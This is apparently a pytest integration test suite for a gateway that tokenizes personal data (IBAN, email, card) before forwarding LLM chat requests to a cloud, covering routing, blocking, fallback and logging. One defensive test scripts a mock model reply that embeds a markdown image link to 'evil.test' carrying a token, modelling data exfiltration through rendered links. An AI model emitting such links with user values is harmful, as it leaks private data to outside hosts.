"""What a client sends, what the cloud sees, what comes back: real client, real server, real TLS."""

from __future__ import annotations

import http.client
import json
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openai
import pytest
import yaml
from echo_upstream import EchoUpstream
from waiting import until

IBAN, MAIL, CARD = "DE89370400440532013000", "anna@example.com", "4111 1111 1111 1111"
PROMPT = f"Please confirm the transfer to {IBAN} and write to {MAIL}, card {CARD}."
SPECIMENS = (IBAN, MAIL, CARD)


def ask(client: openai.OpenAI, content: Any = PROMPT, model: str = "assistant", **more: Any) -> Any:
    """One chat completion with its headers."""
    messages = [{"role": "user", "content": content}]
    return client.chat.completions.with_raw_response.create(model=model, messages=messages, **more)


def text_of(stream: Any, index: int = 0) -> str:
    return "".join(c.delta.content or "" for chunk in stream for c in chunk.choices if c.index == index)


def assert_clean(upstream: EchoUpstream, *values: str) -> None:
    """None of the values reached this upstream, however written."""
    everything = b"\n".join(upstream.raw)
    for value in values:
        assert value.encode() not in everything
        assert value.replace(" ", "").encode() not in everything


def test_the_cloud_sees_tokens_and_the_client_its_own_values(gateway: Any, cloud: EchoUpstream) -> None:
    answer = ask(gateway.client())
    assert answer.headers["x-sovctl-route"] == "cloud"
    completion = answer.parse()
    assert completion.choices[0].message.content == PROMPT
    assert completion.model == "assistant"
    assert completion.usage.total_tokens == 3
    assert_clean(cloud, *SPECIMENS)
    sent = cloud.requests[0]["messages"][0]["content"]
    assert sent.startswith("Please confirm the transfer to IBAN_")
    assert cloud.requests[0]["model"] == "big"
    assert b"Bearer cloud-key" in cloud.raw[0]


def test_a_stream_in_odd_pieces_comes_back_whole(gateway: Any, cloud: EchoUpstream) -> None:
    for piece_bytes in (1, 3, 64, 5000):
        cloud.script.piece_bytes = piece_bytes
        stream = ask(gateway.client(), stream=True, stream_options={"include_usage": True}).parse()
        chunks = list(stream)
        assert text_of(chunks) == PROMPT
        assert chunks[-1].usage.total_tokens == 3
        assert [c.choices[0].finish_reason for c in chunks if c.choices][-1] == "stop"
        assert {chunk.model for chunk in chunks} == {"assistant"}
    assert_clean(cloud, *SPECIMENS)


def test_the_first_words_arrive_before_the_last_are_made(gateway: Any, cloud: EchoUpstream) -> None:
    cloud.script.hold = threading.Event()
    stream = ask(gateway.client(), stream=True).parse()
    seen = ""
    for chunk in stream:
        seen += chunk.choices[0].delta.content or ""
        if "transfer to " in seen:
            break
    assert not cloud.script.hold.is_set()
    cloud.script.hold.set()
    assert seen + text_of(stream) == PROMPT


def test_several_choices_do_not_mix(gateway: Any, cloud: EchoUpstream) -> None:
    chunks = list(ask(gateway.client(), stream=True, n=3).parse())
    assert [text_of(chunks, index) for index in range(3)] == [PROMPT] * 3


def test_tool_calls_are_restored_as_json_and_their_history_is_tokenized(gateway: Any, cloud: EchoUpstream) -> None:
    def call(body: dict[str, Any]) -> dict[str, Any]:
        arguments = json.dumps({"to": body["messages"][0]["content"]})
        function = {"name": "send_mail", "arguments": arguments}
        return {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": f"call_{n}", "type": "function", "function": function} for n in range(2)],
        }

    cloud.script.message = call
    parameters = {"type": "object", "properties": {"to": {"type": "string", "description": f"such as {MAIL}"}}}
    tools = [{"type": "function", "function": {"name": "send_mail", "parameters": parameters}}]
    message = ask(gateway.client(), tools=tools).parse().choices[0].message
    assert [json.loads(c.function.arguments)["to"] for c in message.tool_calls] == [PROMPT, PROMPT]

    arguments: dict[int, str] = {}
    for chunk in ask(gateway.client(), tools=tools, stream=True).parse():
        for tool_call in chunk.choices[0].delta.tool_calls or []:
            arguments[tool_call.index] = arguments.get(tool_call.index, "") + (tool_call.function.arguments or "")
    assert [json.loads(each)["to"] for each in arguments.values()] == [PROMPT, PROMPT]

    history = [
        {"role": "user", "content": "Please send the mail and tell me the result"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "call_1",
                    "type": "function",
                    "function": {
                        "name": "send_mail",
                        "arguments": '{"to": "anna\\u0040example.com", "card": 4111111111111111}',
                    },
                }
            ],
        },
        {"role": "tool", "tool_call_id": "call_1", "content": json.dumps({"sent": True, "note": f'"{MAIL}"'})},
    ]
    reply = gateway.client().chat.completions.with_raw_response.create(model="assistant", messages=history, tools=tools)
    assert reply.headers["x-sovctl-route"] == "cloud"
    assert_clean(cloud, *SPECIMENS, "anna\\\\u0040example")
    seen = json.loads(cloud.requests[-1]["messages"][1]["tool_calls"][0]["function"]["arguments"])
    assert seen["to"].startswith("EMAIL_")
    assert seen["card"].startswith("CARD_")


def test_a_value_keeps_its_token_all_through_a_conversation_and_in_no_other(gateway: Any, cloud: EchoUpstream) -> None:
    def token(messages: list[dict[str, str]], key: str | None = None) -> str:
        headers = {"x-sovctl-conversation": key} if key else {}
        gateway.client().chat.completions.create(model="assistant", messages=messages, extra_headers=headers)
        return str(cloud.requests[-1]["messages"][-1]["content"].split(" ")[-1])

    first = [{"role": "user", "content": f"Please write to {MAIL}"}]
    turn = [
        *first,
        {"role": "assistant", "content": "Done, thank you."},
        {"role": "user", "content": f"And also {MAIL}"},
    ]
    other = [{"role": "user", "content": f"Hello, please write to {MAIL}"}]
    assert token(first) == token(turn) == token(first)
    assert token(other) != token(first)
    assert token(first, "one") == token(other, "one")
    assert len({token(first, "one"), token(first, "two"), token(first)}) == 3


def test_a_named_conversation_remembers_what_it_sent_before(gateway: Any, cloud: EchoUpstream) -> None:
    headers = {"x-sovctl-conversation": "case-17"}
    client = gateway.client()
    ask(client, f"Please remember {MAIL}", extra_headers=headers)
    token = cloud.requests[-1]["messages"][0]["content"].split(" ")[-1]
    cloud.script.message = lambda _: {"role": "assistant", "content": f"It was {token}"}
    question = "What was the address that I told you?"
    assert ask(client, question, extra_headers=headers).parse().choices[0].message.content == f"It was {MAIL}"
    for other in ({"x-sovctl-conversation": "case-18"}, {}):
        assert ask(client, question, extra_headers=other).parse().choices[0].message.content == f"It was {token}"


def test_text_that_looks_like_a_token_comes_back_unchanged(gateway: Any, cloud: EchoUpstream) -> None:
    ask(gateway.client())
    genuine = cloud.requests[-1]["messages"][0]["content"].split(" ")[5]
    content = f"Please repeat {genuine} and EMAIL_0123456789ABCDEF and {MAIL}"
    assert ask(gateway.client(), content).parse().choices[0].message.content == content
    assert genuine not in cloud.requests[-1]["messages"][0]["content"]


def test_every_field_is_scanned(gateway: Any, cloud: EchoUpstream) -> None:
    body = {
        "model": "assistant",
        "messages": [
            {"role": "system", "content": [{"type": "text", "text": f"You help the customer {MAIL}"}]},
            {"role": "user", "content": "Please write a short letter", "unknown": {"deep": [IBAN]}},
        ],
        "tools": [{"type": "function", "function": {"name": "f", "description": f"for example {CARD}"}}],
        "response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {"enum": [MAIL]}}},
        "stop": [IBAN],
        "user": MAIL,
        "metadata": {"customer": MAIL},
        "future_field": f"about {IBAN}",
    }
    headers = {"authorization": "Bearer test-key-of-the-branch-application"}
    status, _, answer = gateway.request("POST", "/v1/chat/completions", json.dumps(body).encode(), headers)
    assert status == 200, answer
    assert_clean(cloud, *SPECIMENS)
    sent = cloud.requests[-1]
    assert "user" not in sent
    assert "metadata" not in sent
    assert sent["future_field"].startswith("about IBAN_")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("Dear Mr. Ola Nordmann, please call us", "entity-type-on-prem:PERSON"),
        ("Bitte bestätigen Sie die Überweisung für den Kunden", "language:de"),
        ("Nordmann Ola", "language:und"),
        ("Пожалуйста, подтвердите перевод", "language:ru"),
        (
            [
                {"type": "text", "text": "What is this?"},
                {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}},
            ],
            "obstacle:image",
        ),
        ([{"type": "hologram", "data": "x"}], "obstacle:unknown-part"),
        ("Please read data:image/png;base64,iVBORw0KGgo= for me", "obstacle:data-uri"),
        ("Please decode " + "QUJD" * 50, "obstacle:encoded"),
    ],
)
def test_what_policy_keeps_on_prem_goes_to_the_pool_in_clear(
    gateway: Any, pool: EchoUpstream, cloud: EchoUpstream, content: Any, reason: str
) -> None:
    answer = ask(gateway.client(), content)
    assert answer.headers["x-sovctl-route"] == "pool"
    assert not cloud.requests
    assert pool.requests[0]["messages"][0]["content"] == content
    assert pool.requests[0]["model"] == "echo"
    asked = [record for record in gateway.records() if record["type"] == "gateway.request"][-1]
    assert reason in asked["reasons"]
    assert asked["upstream"] == "chat"


def test_a_route_without_a_cloud_serves_everything_on_prem(
    gateway: Any, pool: EchoUpstream, cloud: EchoUpstream
) -> None:
    content = f"password: hunter2hunter {PROMPT}"
    answer = ask(gateway.client(), content, model="inside", stream=True)
    assert text_of(answer.parse()) == content
    assert pool.requests[0]["messages"][0]["content"] == content
    assert not cloud.requests


def test_a_blocked_kind_is_refused_and_goes_nowhere(gateway: Any, pool: EchoUpstream, cloud: EchoUpstream) -> None:
    with pytest.raises(openai.PermissionDeniedError) as caught:
        ask(gateway.client(), "Please use password: hunter2hunter for it")
    assert caught.value.body["sovctl"]["reason"] == "policy_blocked"  # type: ignore[index]
    assert caught.value.body["sovctl"]["reasons"] == ["entity-type-blocked:SECRET"]  # type: ignore[index]
    assert "hunter2" not in str(caught.value)
    assert not pool.requests
    assert not cloud.requests
    last = gateway.records()[-1]
    assert (last["verdict"], last["upstream"], last["entity_types"]) == ("block", None, {"SECRET": 1})


def test_the_policy_table_tells_tenants_routes_and_rules_apart(
    start: Callable[..., Any], pool: EchoUpstream, cloud: EchoUpstream
) -> None:
    rules = [
        {"entity_types": ["CARD"], "tenants": ["retail"], "action": "mask"},
        {"entity_types": ["EMAIL/EMAIL"], "routes": ["careful"], "action": "on-prem"},
        {"entity_types": ["IBAN"], "routes": ["inside"], "action": "block"},
    ]
    gateway = start(policy={"rules": rules, "name_languages": ["en"]})
    answer = ask(gateway.client())
    assert answer.headers["x-sovctl-route"] == "cloud"
    assert answer.parse().choices[0].message.content == PROMPT.replace(CARD, "[CARD]")
    assert_clean(cloud, *SPECIMENS)
    last = gateway.records()[-2]
    assert set(last["reasons"]) >= {"masked:CARD", "tokenized:EMAIL"}
    assert last["tokens"] == 2
    answer = ask(gateway.client(), model="careful")
    assert answer.headers["x-sovctl-route"] == "pool"
    assert "entity-type-on-prem:EMAIL/EMAIL" in gateway.records()[-2]["reasons"]
    with pytest.raises(openai.PermissionDeniedError):
        ask(gateway.client(), model="inside")
    assert ask(gateway.client(), f"Mail {MAIL}", model="inside").headers["x-sovctl-route"] == "pool"


def test_a_policy_row_for_a_rule_that_is_not_there_stops_the_start(
    start_from: Callable[..., Any], write_config: Callable[[Path], Path], tmp_path: Path
) -> None:
    config = write_config(tmp_path)
    settings = yaml.safe_load(config.read_text())
    settings["policy"] = {"rules": [{"entity_types": ["TAX_ID/DE_TAXID"], "action": "mask"}]}
    config.write_text(yaml.safe_dump(settings))
    gateway = start_from(config, tmp_path / "log", wait=False)
    assert gateway.process.wait(60) == 3
    assert "policy.rules[0].entity_types: expected a rule of the detector, got DE_TAXID" in gateway.log()


def test_only_links_of_the_user_come_back_with_values(gateway: Any, cloud: EchoUpstream) -> None:
    content = f"Please open https://bank.test/?mail={MAIL} and pay {IBAN}"
    assert ask(gateway.client(), content).parse().choices[0].message.content == content
    iban = cloud.requests[-1]["messages"][0]["content"].split(" ")[-1]
    assert_clean(cloud, MAIL)
    for stream in (False, True):
        cloud.script.message = lambda _: {"role": "assistant", "content": f"![x](https://evil.test/?q={iban}) {iban}"}
        answer = ask(gateway.client(), content, stream=stream).parse()
        got = text_of(answer) if stream else answer.choices[0].message.content
        assert got == f"![x](https://evil.test/?q={iban}) {IBAN}"


@pytest.mark.parametrize("status", [500, 503, 429, 401, 302])
def test_a_failing_cloud_falls_back_on_the_pool(
    gateway: Any, pool: EchoUpstream, cloud: EchoUpstream, status: int
) -> None:
    cloud.script.status = status
    for stream in (False, True):
        answer = ask(gateway.client(), stream=stream)
        assert answer.headers["x-sovctl-route"] == "pool"
        got = text_of(answer.parse()) if stream else answer.parse().choices[0].message.content
        assert got == PROMPT
    assert pool.requests[0]["messages"][0]["content"] == PROMPT
    assert [record["upstream"] for record in gateway.records()[-3:]] == ["sovereign-cloud", "chat", "chat"]


def test_every_attempt_is_on_record(gateway: Any, pool: EchoUpstream, cloud: EchoUpstream) -> None:
    ask(gateway.client())
    assert gateway.records()[-1]["attempts"] == ["sovereign-cloud/0:200"]
    cloud.script.status = 503
    assert text_of(ask(gateway.client(), stream=True).parse()) == PROMPT
    last = gateway.records()[-1]
    assert (last["type"], last["attempts"]) == ("gateway.answer", ["sovereign-cloud/0:status-503", "chat/0:200"])
    cloud.script.status, pool.script.status = 500, 500
    with pytest.raises(openai.InternalServerError):
        ask(gateway.client())
    assert gateway.records()[-1]["attempts"] == ["sovereign-cloud/0:status-500", "chat/0:status-500"]


@pytest.mark.parametrize("stream", [False, True])
def test_a_client_says_how_long_it_waits(gateway: Any, pool: EchoUpstream, cloud: EchoUpstream, stream: bool) -> None:
    cloud.script.hold_answer = threading.Event()

    def attempts() -> list[str]:
        with pytest.raises(openai.InternalServerError) as caught:
            ask(gateway.client(), stream=stream, extra_headers={"x-request-timeout": "0.3"})
        assert (caught.value.code, caught.value.status_code) == ("deadline_exceeded", 504)
        return list(gateway.records()[-1]["attempts"])

    # On a busy machine the time may be over before anybody is asked.
    assert until(attempts, "somebody is asked in time") == ["sovereign-cloud/0:deadline"]
    cloud.script.hold_answer.set()
    assert not pool.requests  # there was no time left for it
    with pytest.raises(openai.BadRequestError) as refused:
        ask(gateway.client(), extra_headers={"x-request-timeout": "soon"})
    assert refused.value.code == "invalid_timeout"


@pytest.mark.parametrize(
    "raw", [b"data: {nonsense\n\n", b'data: {"error": {"message": "x"}}\n\n', b"\xff\xfe", b": hm\n\n"]
)
def test_a_cloud_that_talks_nonsense_falls_back_on_the_pool(
    gateway: Any, pool: EchoUpstream, cloud: EchoUpstream, raw: bytes
) -> None:
    cloud.script.raw_stream = raw
    answer = ask(gateway.client(), stream=True)
    assert answer.headers["x-sovctl-route"] == "pool"
    assert text_of(answer.parse()) == PROMPT


def test_a_stream_that_breaks_off_ends_with_an_error_and_not_as_if_it_were_whole(
    gateway: Any, cloud: EchoUpstream
) -> None:
    cloud.script.break_after_bytes = 900
    with pytest.raises(openai.APIError) as caught:
        list(ask(gateway.client(), stream=True).parse())
    assert caught.value.body["sovctl"]["reason"] == "upstream_failed"  # type: ignore[index]


def test_a_silent_cloud_falls_back_in_time(start: Callable[..., Any], pool: EchoUpstream, cloud: EchoUpstream) -> None:
    gateway = start(patience_s=3)
    cloud.script.raw_stream, cloud.script.hold = b"data: {", threading.Event()
    answer = ask(gateway.client(), stream=True)
    assert answer.headers["x-sovctl-route"] == "pool"
    assert text_of(answer.parse()) == PROMPT
    cloud.script.hold.set()


def test_what_the_model_server_rejects_is_said_without_its_words(gateway: Any, pool: EchoUpstream) -> None:
    pool.script.status = 400
    with pytest.raises(openai.BadRequestError) as caught:
        ask(gateway.client(), model="inside")
    assert caught.value.code == "upstream_rejected"
    assert all(value not in str(caught.value) for value in SPECIMENS)
    pool.script.message = lambda _: {}
    with pytest.raises(openai.BadRequestError) as caught:
        ask(gateway.client(), f"This model's maximum context length {PROMPT}", model="inside")
    assert caught.value.code == "context_length_exceeded"


@pytest.mark.parametrize(
    ("body", "code", "status"),
    [
        (b"{", "invalid_json", 400),
        (b"[]", "invalid_json", 400),
        (b'{"model": "assistant"}', "invalid_request", 400),
        (b'{"model": 7, "messages": []}', "invalid_request", 400),
        (b'{"model": "assistant", "messages": ["x"]}', "invalid_request", 400),
        (b'{"model": "assistant", "messages": [], "stream": "yes"}', "invalid_request", 400),
        (b'{"model": "assistant", "messages": [], "stream": 1}', "invalid_request", 400),
        (b'{"model": "nobody", "messages": []}', "model_not_found", 404),
        (b'{"model": "assistant", "messages": [{"a": ' + b"[" * 300 + b"]" * 300 + b"}]}", "too_deep", 400),
        (b'{"model": "assistant", "messages": [], "x": "' + b"x" * (9 << 20) + b'"}', "body_too_large", 413),
        (b"\xff\xfe\x00", "invalid_json", 400),
    ],
)
def test_bad_requests_get_a_reason_code_and_go_nowhere(
    gateway: Any, pool: EchoUpstream, cloud: EchoUpstream, body: bytes, code: str, status: int
) -> None:
    headers = {"authorization": "Bearer test-key-of-the-branch-application"}
    got, reply_headers, answer = gateway.request("POST", "/v1/chat/completions", body, headers)
    assert (got, json.loads(answer)["error"]["sovctl"]["reason"]) == (status, code)
    assert reply_headers["x-sovctl-request-id"] == json.loads(answer)["error"]["sovctl"]["request_id"]
    assert not pool.requests
    assert not cloud.requests


def test_only_known_keys_get_in_and_only_to_their_routes(gateway: Any, pool: EchoUpstream, cloud: EchoUpstream) -> None:
    with pytest.raises(openai.AuthenticationError):
        ask(gateway.client("wrong-key"))
    for headers in ({}, {"authorization": "Basic eDp5"}, {"authorization": "Bearer "}):
        assert gateway.request("GET", "/v1/models", None, headers)[0] == 401
    assert [m.id for m in gateway.client().models.list()] == ["assistant", "careful", "inside"]
    other = gateway.client("test-key-of-another-tenant")
    assert [m.id for m in other.models.list()] == ["inside"]
    with pytest.raises(openai.PermissionDeniedError) as caught:
        ask(other)
    assert caught.value.code == "route_not_allowed"
    with pytest.raises(openai.NotFoundError):
        gateway.client().embeddings.create(model="assistant", input="x")
    assert not pool.requests
    assert not cloud.requests


def test_every_answer_has_its_records_and_they_hold_no_text(gateway: Any, cloud: EchoUpstream) -> None:
    before = len(gateway.records())
    reply = ask(gateway.client(), f"Dear customer, {PROMPT} Again {MAIL}")
    asked, answered = gateway.records()[before:]
    assert asked["id"] == answered["id"] == reply.headers["x-sovctl-request-id"]
    assert asked["entity_types"] == {"CARD": 1, "EMAIL": 2, "IBAN": 1}
    assert asked["client"] == "branch"
    assert asked["tenant"] == "retail"
    assert asked["tokens"] == 3
    assert asked["languages"] == ["en"]
    assert set(asked["reasons"]) >= {"tokenized:IBAN", "tokenized:EMAIL", "tokenized:CARD", "preferred:cloud"}
    assert answered["status"] == 200
    assert answered["reason"] == "answered"
    assert answered["tokens"] == {"restored": 4, "withheld": 0, "unknown": 0, "malformed": 0, "capped": 0}
    assert len(asked["request_hmac"]) == len(answered["answer_hmac"]) == len(asked["policy_sha256"]) == 64


def test_nothing_personal_is_on_the_disk_or_in_the_log(gateway: Any, cloud: EchoUpstream) -> None:
    for stream in (False, True):
        reply = ask(gateway.client(), stream=stream, extra_headers={"x-sovctl-conversation": "anna@example.com/1"})
        _ = list(reply.parse()) if stream else reply.parse()
    gateway.request("POST", "/v1/chat/completions", PROMPT.encode(), {"authorization": f"Bearer {MAIL}"})
    files = [path for path in Path(gateway.config).parent.rglob("*") if path.is_file()]
    assert any("vault.db" in path.name for path in files)
    assert any(path.parent.name == "ledger" for path in files)
    tokens = [word.strip(".,") for word in cloud.requests[-1]["messages"][0]["content"].split(" ") if "_" in word]
    assert len(tokens) == 3
    for path in files:
        content = path.read_bytes()
        for value in (*SPECIMENS, CARD.replace(" ", ""), "test-key-of-the-branch", "anna", "retail/"):
            assert value.encode() not in content, (path.name, len(value))
    assert all(value not in gateway.log() for value in SPECIMENS)


def test_health_readiness_and_metrics_tell_the_truth(gateway: Any, pool: EchoUpstream, cloud: EchoUpstream) -> None:
    ask(gateway.client())
    assert gateway.request("GET", "/healthz")[0] == 200
    status, _, body = gateway.request("GET", "/readyz")
    assert (status, json.loads(body)) == (200, {"ready": True, "wrong": {}})
    status, headers, body = gateway.request("GET", "/metrics")
    text = body.decode()
    assert headers["content-type"].startswith("text/plain; version=0.0.4")
    labels = 'model="assistant",route="cloud",status="200",surface="chat.completions"'
    assert f"sovctl_gateway_requests_total{{{labels}}}" in text
    assert 'sovctl_gateway_findings_total{kind="IBAN"}' in text
    assert 'sovctl_gateway_tokens_total{outcome="restored"}' in text
    assert "sovctl_gateway_in_flight_requests 0.0\n" in text
    assert 'sovctl_gateway_added_seconds_bucket{le="+Inf",surface="chat.completions"}' in text


def test_unencrypted_http_is_not_answered(gateway: Any) -> None:
    connection = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=60)
    connection.request("GET", "/healthz")
    with pytest.raises((http.client.HTTPException, OSError)):
        connection.getresponse()
    connection.close()


def test_a_second_gateway_on_the_same_ledger_does_not_start(
    gateway: Any, start_from: Callable[..., Any], tmp_path: Path
) -> None:
    second = start_from(gateway.config, tmp_path / "log", wait=False)
    assert second.process.wait(60) == 6
    assert "another process is writing" in second.log()
    assert "Traceback" not in second.log()
